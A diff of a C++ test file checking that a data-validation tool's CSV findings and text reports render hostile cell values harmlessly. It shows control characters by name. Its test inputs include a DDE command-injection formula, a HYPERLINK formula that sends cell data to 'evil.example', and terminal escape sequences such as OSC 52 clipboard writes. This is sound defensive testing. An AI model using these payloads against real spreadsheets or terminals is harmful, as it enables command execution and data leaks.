@@ -160,15 +160,18 @@ TEST_F(ReportSafetyTest, FindingsCsvShowsFormulasAsTextAndTheAcceptedFileKeepsTh
         values.push_back(row[4]);
     }
     for (const std::string& sent : {hyperlink, std::string("+RH80"), std::string("-2+3+cmd|' /C calc'!A0"),
-                                    std::string("@SUM(1+1)"), std::string("\t=1+1"), std::string("\r=1+1")}) {
+                                    std::string("@SUM(1+1)")}) {
         EXPECT_NE(std::find(values.begin(), values.end(), "'" + sent), values.end()) << sent << "\n" << findings;
     }
     // As written: prefixed, and quoted as OWASP advises.
     EXPECT_TRUE(Has(findings, ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",")) << findings;
-    EXPECT_TRUE(Has(findings, ",\"'\t=1+1\",")) << findings;
+    // A value holding a control character is a finding of its own, and the value shows the
+    // character by name (DIDC-CONTROL, DIDS072), so it no longer starts with a tab or CR.
+    EXPECT_TRUE(Has(findings, ",<TAB>=1+1,")) << findings;
+    EXPECT_TRUE(Has(findings, ",<CR>=1+1,")) << findings;
     // A plain number is left as it is: a spreadsheet reads it as a number, never a formula.
     EXPECT_TRUE(Has(findings, ",reject,-5,")) << findings;
-    EXPECT_NE(std::find(values.begin(), values.end(), kOsc52), values.end()) << findings;
+    EXPECT_NE(std::find(values.begin(), values.end(), "<ESC>]52;c;SGVsbG8=<BEL>"), values.end()) << findings;
 
     // The accepted records are data: each value exactly as sent.
     const std::string accepted = ReadText(Path("acc.csv"));
@@ -199,16 +202,16 @@ TEST_F(ReportSafetyTest, TheTextReportShowsControlCharactersFromHeaderCellsFileN
                                            kRed + "RXX' 2>&1");
     ASSERT_EQ(refused.exit_code, 2) << refused.out;
     EXPECT_FALSE(HasTerminalControl(refused.out)) << refused.out;
-    EXPECT_TRUE(Has(refused.out, "--provider: '\\x1b[31mRXX' is not an organisation code")) << refused.out;
+    EXPECT_TRUE(Has(refused.out, "--provider: '<ESC>[31mRXX' is not an organisation code")) << refused.out;
 
     const auto r = Validate("'" + name + "' --provider RXX --format text --findings out.csv");
     ASSERT_EQ(r.exit_code, 1) << r.out;
     EXPECT_FALSE(HasTerminalControl(r.out)) << r.out;
-    EXPECT_TRUE(Has(r.out, "DID validation of name\\x1b]0;title\\x07.csv (")) << r.out;
+    EXPECT_TRUE(Has(r.out, "DID validation of name<ESC>]0;title<BEL>.csv (")) << r.out;
     EXPECT_TRUE(Has(r.out, "Provider RXX, period")) << r.out;
-    EXPECT_TRUE(Has(r.out, "column 4 is '\\x1b]52;c;SGVsbG8=\\x07', expected ETHNIC CATEGORY")) << r.out;
-    EXPECT_TRUE(Has(r.out, "column 5 is '\\x1b[31mRED\\x1b[0m'")) << r.out;
-    EXPECT_TRUE(Has(r.out, "column 6 is '\\u009b2J'")) << r.out;
+    EXPECT_TRUE(Has(r.out, "column 4 is '<ESC>]52;c;SGVsbG8=<BEL>', expected ETHNIC CATEGORY")) << r.out;
+    EXPECT_TRUE(Has(r.out, "column 5 is '<ESC>[31mRED<ESC>[0m'")) << r.out;
+    EXPECT_TRUE(Has(r.out, "column 6 is '<U+009B>2J'")) << r.out;
     EXPECT_TRUE(Has(r.out, "column 3 is '=HYPERLINK(\"http://evil.example\")'")) << r.out;
 
     // The findings file quotes the header cells; its value column starts with the formula.
@@ -221,8 +224,9 @@ TEST_F(ReportSafetyTest, TheTextReportShowsControlCharactersFromHeaderCellsFileN
     ASSERT_EQ(json.exit_code, 1) << json.out;
     EXPECT_FALSE(HasTerminalControl(json.out)) << json.out;
     const std::string message = nlohmann::json::parse(json.out)["file_errors"][0]["message"];
-    EXPECT_TRUE(Has(message, "column 4 is '" + kOsc52 + "'")) << message;
-    EXPECT_TRUE(Has(message, "column 6 is '" + kC1Csi + "2J'")) << message;
+    // The finding's message names the characters (DIDC-HEADER quotes cells as findings show them).
+    EXPECT_TRUE(Has(message, "column 4 is '<ESC>]52;c;SGVsbG8=<BEL>'")) << message;
+    EXPECT_TRUE(Has(message, "column 6 is '<U+009B>2J'")) << message;
 }
 
 // The administration tables, from a user name (`--as`) and a reason: CSV cells that would run
@@ -249,7 +253,7 @@ TEST_F(ReportSafetyTest, TablesGuardUserNamesAndReasons) {
     r = Did("audit list");
     ASSERT_EQ(r.exit_code, 0) << r.out;
     EXPECT_FALSE(HasTerminalControl(r.out)) << r.out;
-    EXPECT_TRUE(Has(r.out, "  \\x1b]52;c;SGVsbG8=\\x07dm  ")) << r.out;
+    EXPECT_TRUE(Has(r.out, "  <ESC>]52;c;SGVsbG8=<BEL>dm  ")) << r.out;
     EXPECT_TRUE(Has(r.out, "  " + hyperlink + "  ")) << r.out;
     // Columns are measured on what is shown: `origin` starts at the same place on every line.
     const size_t origin = r.out.find("origin");
@@ -262,7 +266,7 @@ TEST_F(ReportSafetyTest, TablesGuardUserNamesAndReasons) {
     EXPECT_EQ(lines, 4u) << r.out;  // the ODS import and the three changes
     r = Did("exception list");
     EXPECT_FALSE(HasTerminalControl(r.out)) << r.out;
-    EXPECT_TRUE(Has(r.out, "@SUM(1+1)\\x1b[31m  admin")) << r.out;
+    EXPECT_TRUE(Has(r.out, "@SUM(1+1)<ESC>[31m  admin")) << r.out;
 }
 
 }  // namespace
